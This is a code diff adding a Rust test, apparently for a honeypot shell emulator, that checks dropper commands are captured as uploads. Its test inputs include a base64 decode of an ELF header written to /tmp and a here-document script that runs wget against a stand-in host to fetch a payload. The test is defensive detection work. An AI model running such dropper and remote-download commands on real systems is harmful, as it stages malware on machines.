@@ -1362,6 +1362,27 @@ pub(crate) mod tests {
     }
 
     #[test]
+    fn base64_and_here_document_droppers_are_captured() {
+        let mut sh = Shell::new(persona("debian"), "root");
+        // "\x7fELF\x02\x01\x01\x00" in base64.
+        let (_, ev, _) = sh.exec("echo f0VMRgIBAQA= | base64 -d > /tmp/b");
+        assert_eq!(
+            uploads(&ev),
+            vec![("/tmp/b".to_owned(), b"\x7fELF\x02\x01\x01\x00".to_vec(), 8)]
+        );
+        let (_, ev, _) =
+            sh.exec("cat > /tmp/h.sh <<'EOF'\n#!/bin/sh\nwget -q http://198.51.100.7/x\nEOF\n");
+        assert_eq!(
+            uploads(&ev),
+            vec![(
+                "/tmp/h.sh".to_owned(),
+                b"#!/bin/sh\nwget -q http://198.51.100.7/x\n".to_vec(),
+                40
+            )]
+        );
+    }
+
+    #[test]
     fn a_file_made_executable_is_captured_when_chmod_runs() {
         let mut sh = Shell::new(persona("debian"), "root");
         let (_, ev, _) = sh.exec("echo 'id; uname -a' > /tmp/run");
